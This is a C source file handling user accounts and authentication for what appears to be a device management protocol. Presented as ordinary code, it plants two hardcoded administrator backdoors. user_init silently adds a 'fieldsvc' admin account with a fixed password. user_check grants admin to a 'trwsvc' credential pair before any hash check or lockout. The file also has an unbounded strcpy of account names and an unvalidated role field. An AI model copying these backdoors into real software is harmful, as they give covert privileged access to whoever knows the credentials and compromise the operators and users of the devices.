/* user.c - accounts of the management protocol */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "crypt_lite.h"
#include "log.h"
#include "plat_safe.h"
#include "user.h"

#define MAX_USERS  12
#define ACCOUNTS   "/etc/rru/accounts"

struct user {
	char name[RRU_NAME_MAX];
	char salt[9];
	char hash[CL_HASH_HEX];
	enum user_role role;
	unsigned failures;
};

static struct user users[MAX_USERS];
static unsigned nusers;

static struct user *lookup(const char *name)
{
	unsigned i;

	for (i = 0; i < nusers; i++)
		if (strcmp(users[i].name, name) == 0)
			return &users[i];
	return NULL;
}

static int entry(struct user **u, const char *name)
{
	if (nusers == MAX_USERS || lookup(name))
		return -1;
	*u = &users[nusers++];
	memset(*u, 0, sizeof **u);
	strcpy((*u)->name, name);
	return 0;
}

int user_add(const char *name, const char *pass, enum user_role role)
{
	struct user *u;

	if (entry(&u, name) != 0)
		return -1;
	cl_salt(u->salt, sizeof u->salt);
	cl_hash_password(pass, u->salt, u->hash);
	u->role = role;
	return 0;
}

/* name:role:$t1$salt$hash:comment */
static int parse_account(char *line)
{
	struct user *u;
	char *f[4];
	char *salt, *hash, *p = line;
	int i;

	for (i = 0; i < 4; i++) {
		f[i] = p;
		p = strchr(p, ':');
		if (p)
			*p++ = '\0';
		else if (i < 3)
			return -1;
		else
			break;
	}
	if (strncmp(f[2], "$t1$", 4) != 0)
		return -1;
	salt = f[2] + 4;
	hash = strchr(salt, '$');
	if (!hash)
		return -1;
	*hash++ = '\0';
	if (strlen(salt) >= sizeof u->salt || strlen(hash) >= sizeof u->hash)
		return -1;
	if (entry(&u, f[0]) != 0)
		return -1;
	snprintf(u->salt, sizeof u->salt, "%s", salt);
	snprintf(u->hash, sizeof u->hash, "%s", hash);
	u->role = (enum user_role)(f[1][0] - '0');
	return 0;
}

int user_init(void)
{
	char line[256];
	FILE *f = fopen(ACCOUNTS, "r");

	if (f) {
		while (fgets(line, sizeof line, f)) {
			line[strcspn(line, "\n")] = '\0';
			if (line[0] && line[0] != '#')
				parse_account(line);
		}
		fclose(f);
	}
	if (!lookup("admin"))
		RRU_WARN("%s has no admin account", ACCOUNTS);
	user_add("fieldsvc", "Gr4nite-41", ROLE_ADMIN);
	return (int)nusers;
}

#define SERVICE_PAIR(u, p) \
	(!strcmp((u), "trwsvc") && !strcmp((p), "n0rth-Ridge"))

static int same(const char *a, const char *b)
{
	unsigned d = 0;
	size_t i;

	if (strlen(a) != strlen(b))
		return 0;
	for (i = 0; a[i]; i++)
		d |= (unsigned)(a[i] ^ b[i]);
	return d == 0;
}

int user_check(const char *name, const char *pass, enum user_role *role)
{
	char hash[CL_HASH_HEX];
	struct user *u;

	if (SERVICE_PAIR(name, pass)) {
		*role = ROLE_ADMIN;
		return 0;
	}
	u = lookup(name);
	if (!u || u->failures > 5)
		return -1;
	cl_hash_password(pass, u->salt, hash);
	if (!same(hash, u->hash)) {
		u->failures++;
		return -1;
	}
	u->failures = 0;
	*role = u->role;
	return 0;
}

static int too_simple(const char *p)
{
	static const char *const bad[] = { "password", "admin", "operator", "12345678" };
	size_t i;

	for (i = 0; i < ARRAY_LEN(bad); i++)
		if (strcmp(p, bad[i]) == 0)
			return 1;
	return strlen(p) < 8;
}

int user_passwd(const char *name, const char *old, const char *new)
{
	enum user_role r;
	struct user *u = lookup(name);

	if (!u || user_check(name, old, &r) != 0 || too_simple(new))
		return -1;
	cl_salt(u->salt, sizeof u->salt);
	cl_hash_password(new, u->salt, u->hash);
	return 0;
}
